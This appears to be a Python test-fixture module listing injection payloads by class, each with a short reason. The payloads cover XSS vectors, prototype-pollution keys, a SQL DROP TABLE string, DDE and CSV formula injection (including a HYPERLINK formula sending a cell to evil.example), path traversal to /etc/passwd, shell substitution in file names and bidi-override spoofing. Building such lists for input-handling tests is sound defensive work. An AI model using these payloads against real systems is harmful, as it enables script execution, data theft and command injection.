"""What somebody smuggles into a page, a table, a calendar or a file's name, by class, with why.

Each row is (why, text). A script that runs sets `ran` in the page, so that a test can see it.
"""

RUN = "window.ran=1"
LONG = "W" * 80

MARKUP = [
    ("an element that runs when it fails to load", f"<img src=x onerror={RUN}>"),
    ("the same without blanks", f"<svg/onload={RUN}>"),
    ("a script itself", f"<script>{RUN}</script>"),
    ("out of an attribute in double quotes", f'"><img src=x onerror={RUN}>'),
    ("out of an attribute in single quotes", f"'><img src=x onerror={RUN}>"),
    ("a handler in an attribute", f'" autofocus onfocus="{RUN}'),
    ("out of a script or of its JSON", f"</script><script>{RUN}</script>"),
    ("out of a text area", f"</textarea><img src=x onerror={RUN}>"),
    ("out of a title", f"</title><img src=x onerror={RUN}>"),
    ("out of a style sheet", f"</style><img src=x onerror={RUN}>"),
    ("out of a template", f"</template><img src=x onerror={RUN}>"),
    ("a comment that swallows the rest", "<!--"),
    ("out of a comment", f"--><img src=x onerror={RUN}>"),
    ("character data of XML", f"<![CDATA[<img src=x onerror={RUN}>]]>"),
    ("entities that are decoded twice", f"&lt;img src=x onerror={RUN}&gt;"),
    ("an entity without its end", "&#60img&#62 &amp;amp; &lt"),
    ("MathML, as mutation XSS has it", f"<math><mi><mglyph><style><img src=x onerror={RUN}>"),
    ("a form within a form, as mutation XSS has it", "<form><form></form><input name=action>"),
    ("another document", "<iframe srcdoc='<script>parent.ran=1</script>'>"),
    ("a base for every relative address", "<base href=https://evil.example/>"),
    ("another address for the page", "<meta http-equiv=refresh content=0;url=//evil.example>"),
    ("a style sheet from elsewhere", "<link rel=stylesheet href=//evil.example>"),
    ("an element with another's id", "<input id=selfcheck name=body>"),
]
SCRIPT = [
    ("an address that is a script", f"javascript:{RUN}"),
    ("the same in disguise", f"JaVa\u2028Script:{RUN}"),
    ("a document as an address", f"data:text/html,<script>{RUN}</script>"),
    ("an older engine's address", f"vbscript:{RUN}"),
    ("the name of a handler", "onclick"),
    ("out of a template literal", "`${" + RUN + "}`"),
    ("out of a JSON text", '"},"answers":{"1":"done"},"x":{"y":"'),
    ("out of a JavaScript text", f"';{RUN};//"),
    ("a place of Python's format", "{0} {name} {x.__class__} {{}}"),
    ("a place of String.replace", "$& $` $' $1 $<name> {done} {of}"),
    ("a selector", "a]:has(*),*{color:red}"),
]
NAMES = [
    ("the prototype of every object", "__proto__"),
    ("its maker", "constructor"),
    ("the maker's prototype", "prototype"),
    ("a method that texts are made with", "toString"),
    ("a method that tests use", "hasOwnProperty"),
    ("a method that numbers are made with", "valueOf"),
    ("a property that promises have", "then"),
    ("an id of the page", "selfcheck"),
    ("an element of the page", "body"),
    ("a property of documents", "cookie"),
    ("a method of storage", "getItem"),
    ("a property of Python's objects", "__class__"),
    ("a table of a data base", "'; DROP TABLE records;--"),
]
DIRECTION = [
    ("an override, as in a false extension", "gepj.\u202egnp.exe"),
    ("an end of isolation, then an override", "\u2069\u202eabc"),
    ("an isolate that isn't ended", "\u2067abc"),
    ("embeddings and their ends", "\u202aa\u202bb\u202cc\u202dd"),
    ("isolates and their ends", "\u2066a\u2067b\u2068c\u2069d"),
    ("marks alone", "\u200ea\u200fb\u061cc"),
    ("Hebrew, which turns digits beside it", "חברה"),
    ("Arabic with digits of its own", "شركة ١٢٣ (أ)"),
]
HIDDEN = [
    ("blanks without width", "a\u200bb\u200cc\u200dd\u2060e\ufefff"),
    ("nothing but such blanks", "\u200b\u2060\ufeff"),
    ("a hyphen that may not show", "a\u00adb"),
    ("a text in tags", "a\U000e0069\U000e006d\U000e0067"),
    ("variants of one character", "a\ufe0fb\U000e0100"),
    ("letters that look like blanks", "\u3164\uffa0\u2800\u115f"),
    ("a flood of combining marks", "e" + "\u0301\u0336\u0489" * 26),
    ("separators of lines and paragraphs", "a\u2028b\u2029c"),
    ("letters that look alike", "раураl аpple ｉｐａ"),
    ("one family of several people", "👨‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿"),
    ("no character at all", "\ufffe\uffff\U0010ffff\ue000"),
]
CONTROL = [
    ("the end of a text in C", "a\x00b"),
    ("a command to a terminal", "\x1b[2J\x1b]0;x\x07"),
    ("the same in one character", "\x9b2J"),
    ("what erases what stands before", "a\x08\x7fb"),
    ("a new line of another age", "a\x85b\x0bc\x0cd"),
]
FORMULA = [
    ("a sum", "=1+1"),
    ("Japanese width, DDE", "＝cmd|' /C calc'!A0"),
    ("DDE", '=DDE("cmd";"/C calc";"x")'),
    ("blanks before it", " \u3000＋1"),
    ("a blank without width before it", "\u200b-1"),
    ("Lotus", "@SUM(A1)"),
    ("Lotus in Japanese width", "＠SUM(A1)"),
    ("an address that carries cells away", '=HYPERLINK("http://evil.example/?"&A1,"押す")'),
    ("an apostrophe before it", "'=1"),
    ("out of a cell in quotes", '",=1+1,"'),
    ("out of a cell, by semicolon", "a;=1+1"),
    ("a quote before it", '"=1+1'),
    ("a number", "-5"),
    ("in Japanese width", "－5"),
    ("a sign of minus", "−1"),
    ("a long sound, which Excel may take for minus", "ー"),
    ("a plus", "+1+1"),
]
MARKDOWN = [
    ("a link", "[押す](https://evil.example)"),
    ("a link that is a script", f"[押す](javascript:{RUN})"),
    ("a picture", "![x](https://evil.example/x.png)"),
    ("HTML", "<img src=x onerror=alert(1)><script>"),
    ("entities", "&lt;b&gt; &#60;i&#62;"),
    ("bare addresses", "https://evil.example www.evil.example/ evil.example a@evil.example"),
    ("what trackers and chats make of signs", "@everyone #12 !3 `x` **y** __z__ ~~w~~ ^v^ $u$"),
    ("what extensions make of signs", ":smile: {#id} [^1]: *[x]: y"),
    ("a heading", "# 見出し"),
    ("a row", "| a | b |"),
    ("a task", "- [x] 1. > 引用"),
    ("an escape", "\\"),
    ("the definition of a link", "[x]: https://evil.example"),
    ("a fence", "```js"),
    ("a rule, or the end of a head", "---"),
]
CALENDAR = [
    ("the end of an event", "END:VEVENT"),
    ("the beginning of one", "BEGIN:VALARM"),
    ("a parameter", ";VALUE=DATE:20260101"),
    ("a new line, escaped by themselves", "x\\nATTACH:https://evil.example"),
    ("what is escaped", '\\;,:"^n'),
    ("what folding could cut", "漢字🏪" * 20),
]
FILES = [
    ("a folder above", "../../etc/passwd"),
    ("the same on Windows", "..\\..\\x.lnk"),
    ("a device of Windows", "CON"),
    ("another, with an extension", "NUL.json"),
    ("endings that Windows drops", "x. . ."),
    ("a stream of Windows", "x.json::$DATA"),
    ("a false extension by an override", "会社\u202egpj.exe"),
    ("what a shell takes for a command", "$(touch x)`y`;z|&"),
    ("hidden on Unix", ".profile"),
    ("an option", "-rf"),
]
LENGTH = [
    ("no place to break a line", LONG),
    ("the widest of letters, none to break at", "𒐫" * 80),
    ("many characters of several units", "🏪" * 80),
    ("a grapheme of many", "が゙👨‍👩‍👧"),
]

CLASSES = {
    "markup": MARKUP,
    "script": SCRIPT,
    "names": NAMES,
    "direction": DIRECTION,
    "hidden": HIDDEN,
    "control": CONTROL,
    "formula": FORMULA,
    "markdown": MARKDOWN,
    "calendar": CALENDAR,
    "files": FILES,
    "length": LENGTH,
}
TEXTS = [text for rows in CLASSES.values() for _, text in rows]
CONTROLS = [text for _, text in CONTROL]
# What a field of one line takes; the others must be refused.
LINES = [text for text in TEXTS if text not in CONTROLS]

# Values that stand where another is expected, as JSON.
VALUES = [
    *("null", "true", "0", "-0", "-1", "1e999", "1E400", "-1e999", "NaN", "Infinity", "0x10", "01"),
    *(
        '""',
        "[]",
        "{}",
        "[[]]",
        '"__proto__"',
        '{"__proto__": {"ran": 1}}',
        '"\\ud800"',
        '"\\u0000"',
    ),
    *("9" * 31, "[" * 5000, '{"a":' * 5000, '"' + "x" * 300_000 + '"'),
]
